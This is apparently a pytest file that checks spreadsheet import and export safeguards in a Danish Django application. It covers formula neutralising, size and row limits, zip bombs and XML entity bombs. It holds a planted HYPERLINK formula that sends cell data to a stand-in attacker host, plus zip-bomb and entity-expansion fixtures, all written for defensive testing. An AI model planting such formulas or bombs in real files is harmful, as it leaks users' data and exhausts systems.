"""Spreadsheets cannot attack their reader: a planted formula exports as text, and an
oversized upload, a zip bomb, a runaway sheet or an XML entity bomb is refused with a
Danish message before it is unpacked."""

import io
import zipfile

import openpyxl
import pytest
from django.core.checks import run_checks
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from jobbro.transfer.formats import FileFormatError, human_size, neutralise, read_rows, write_xlsx
from jobbro.transfer.kinds import KINDS
from jobbro.transfer.services import export_file, import_rows
from tests import factories

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+4512345678", "'+4512345678"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Bageriet A/S", "Bageriet A/S"),
        ("", ""),
    ],
)
def test_a_formula_start_is_neutralised(text, shown):
    assert neutralise(text) == shown


@pytest.mark.parametrize(
    ("size", "shown"),
    [(1, "1 kB"), (10 * 1024, "10 kB"), (1024 * 1024, "1 MB"), (int(1.5 * 1024 * 1024), "1,5 MB")],
)
def test_sizes_read_as_a_dane_reads_them(size, shown):
    assert human_size(size) == shown


def export_companies(municipality, fmt: str) -> bytes:
    company = factories.company(municipality=municipality, name=PLANTED)
    factories.workplace(company)
    return export_file(kind=KINDS["companies"], fmt=fmt, municipality=municipality, actor="test")


def test_a_planted_formula_exports_as_text_in_csv_and_imports_back(municipality_a):
    data = export_companies(municipality_a, "csv")
    text = data.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and ";=HYPERLINK" not in text
    header, rows = read_rows(io.BytesIO(data), "virksomheder.csv")
    assert rows[0].values["company_name"] == PLANTED


def test_a_planted_formula_exports_as_text_in_xlsx(municipality_a):
    data = export_companies(municipality_a, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    planted = next(c for c in cells if c.value == PLANTED)
    assert planted.data_type == "s"


def test_every_xlsx_cell_is_text():
    data = write_xlsx(["a", "b"], [{"a": "=1+1", "b": "0101901234"}])
    row = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))[0]
    assert [(c.value, c.data_type) for c in row] == [("=1+1", "s"), ("0101901234", "s")]


# -- imports that are too big --------------------------------------------------------


def xlsx(rows: int = 2, extra: dict[str, bytes] | None = None, patch=None) -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["cpr", "first_name", "last_name"])
    for n in range(rows):
        workbook.active.append([f"01019{n % 10}1234", "Anna", f"Hansen{n}"])
    plain = io.BytesIO()
    workbook.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in source.infolist():
            content = source.read(item.filename)
            z.writestr(item, patch(item.filename, content) if patch else content)
        for name, content in (extra or {}).items():
            z.writestr(name, content)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(settings):
    settings.IMPORT_MAX_UNPACKED_BYTES = 1024 * 1024
    bomb = xlsx(extra={"xl/media/bomb.bin": b"\0" * (20 * 1024 * 1024)})
    assert len(bomb) < 100 * 1024  # 20 MB of zeros packs to a few kilobytes
    with pytest.raises(FileFormatError, match=r"fylder 20 MB udpakket; grænsen er 1 MB"):
        read_rows(io.BytesIO(bomb), "borgere.xlsx")


def test_a_sheet_with_too_many_rows_is_refused(settings):
    settings.IMPORT_MAX_ROWS = 10
    with pytest.raises(FileFormatError, match="flere end 10 rækker"):
        read_rows(io.BytesIO(xlsx(rows=20)), "borgere.xlsx")
    csv = b"cpr;first_name;last_name\n" + b"0101901234;Anna;Hansen\n" * 20
    with pytest.raises(FileFormatError, match="flere end 10 rækker"):
        read_rows(io.BytesIO(csv), "borgere.csv")
    assert len(read_rows(io.BytesIO(xlsx(rows=9)), "borgere.xlsx")[1]) == 9


def test_xml_is_parsed_with_defusedxml():
    assert openpyxl.DEFUSEDXML is True
    assert not [e for e in run_checks() if e.id == "jobbro.E020"]

    def laughs(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        dtd = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        return content.replace(b"?>", b"?>" + dtd, 1).replace(b"Anna", b"&b;")

    with pytest.raises(FileFormatError, match="kan ikke læses som et regneark"):
        read_rows(io.BytesIO(xlsx(patch=laughs)), "borgere.xlsx")


def post(client, data: bytes, name: str = "borgere.csv"):
    return client.post(
        reverse("transfer:import"),
        {"kind": "citizens", "file": SimpleUploadedFile(name, data), "action": "check"},
    )


def test_the_web_refuses_an_upload_larger_than_the_limit_from_its_headers(
    manager, client_for, settings
):
    settings.IMPORT_MAX_BYTES = 10 * 1024
    response = post(client_for(manager), b"x" * (100 * 1024))
    assert response.status_code == 413
    assert "fylder 101 kB; grænsen er 10 kB (IMPORT_MAX_BYTES)" in response.content.decode()


def test_the_web_stops_reading_an_upload_once_it_passes_the_limit(manager, client_for, settings):
    settings.IMPORT_MAX_BYTES = 10 * 1024  # the request's headers are within the slack
    response = post(client_for(manager), b"x" * (20 * 1024))
    assert response.status_code == 413
    assert "Filen er for stor" in response.content.decode()


def test_the_web_refuses_a_zip_bomb_with_a_danish_message(manager, client_for, settings):
    settings.IMPORT_MAX_UNPACKED_BYTES = 1024 * 1024
    bomb = xlsx(extra={"xl/media/bomb.bin": b"\0" * (5 * 1024 * 1024)})
    html = post(client_for(manager), bomb, "borgere.xlsx").content.decode()
    assert "udpakket; grænsen er 1 MB (IMPORT_MAX_UNPACKED_BYTES)" in html


def test_the_command_refuses_a_file_larger_than_the_limit(municipality_a, tmp_path, settings):
    settings.IMPORT_MAX_BYTES = 1024
    big = tmp_path / "borgere.csv"
    big.write_bytes(b"cpr;first_name;last_name\n" + b"0101901234;Anna;Hansen\n" * 200)
    with pytest.raises(CommandError, match="grænsen er 1 kB"):
        call_command("import", "citizens", str(big), "--municipality", "751")


def test_a_good_xlsx_still_imports(municipality_a):
    header, rows = read_rows(io.BytesIO(xlsx(rows=3)), "borgere.xlsx")
    report = import_rows(
        kind=KINDS["citizens"],
        header=header,
        rows=rows,
        municipality=municipality_a,
        actor="test",
        dry_run=True,
    )
    assert report.ok and report.to_create == 3


def test_the_start_is_refused_when_openpyxl_would_parse_without_defusedxml(monkeypatch):
    from jobbro.transfer.checks import defusedxml_in_use

    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    assert [e.id for e in defusedxml_in_use(None)] == ["jobbro.E020"]
